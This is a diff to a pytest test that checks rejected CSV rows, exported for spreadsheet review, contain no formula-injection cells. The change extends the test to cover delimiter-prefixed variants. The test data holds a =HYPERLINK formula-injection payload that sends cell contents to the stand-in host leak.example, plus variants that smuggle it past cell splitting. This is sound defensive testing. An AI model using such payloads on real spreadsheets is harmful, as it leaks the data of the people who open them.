@@ -269,8 +269,11 @@ def test_rejected_rows_are_written_whole_to_a_file_that_only_its_owner_reads(reg
         assert [row["since"] for row in csv.DictReader(source)] == ["no day", "2011-05-01"]
 
 
-def test_rejected_rows_that_are_looked_at_in_a_spreadsheet_hold_no_formula(register, written, tmp_path):
-    formula = '=HYPERLINK("http://leak.example/?"&A2,"x")'
+@pytest.mark.parametrize("before", ["", "Tashi;", "Tashi\t", "Tashi\n"])
+def test_rejected_rows_that_are_looked_at_in_a_spreadsheet_hold_no_formula(
+    register, written, tmp_path, before
+):
+    formula = before + '=HYPERLINK("http://leak.example/?"&A2,"x")'
     file = written(
         [{"@note": formula, **line(n, since=since)} for n, since in ((1, "no day"), (2, "2011-05-01"))]
     )
@@ -279,8 +282,14 @@ def test_rejected_rows_that_are_looked_at_in_a_spreadsheet_hold_no_formula(regis
 
     write_rejected_rows(scan_file(file), default_path(file), target)
 
-    with target.open(encoding="utf-8-sig", newline="") as source:
-        assert [cell for row in csv.reader(source) for cell in row if cell[0] in "=+-@"] == []
+    read = target.read_text("utf-8-sig")
+    for as_elsewhere in (
+        {},
+        {"delimiter": ";", "quoting": csv.QUOTE_NONE},
+        {"delimiter": "\t", "quoting": csv.QUOTE_NONE},
+    ):
+        cells = [cell for row in csv.reader(read.splitlines(keepends=True), **as_elsewhere) for cell in row]
+        assert [cell for cell in cells if cell.strip('"')[:1] in tuple("=+-@")] == []
     assert scan_file(target).header == ("@note", "phone", "since", "state")
 
 
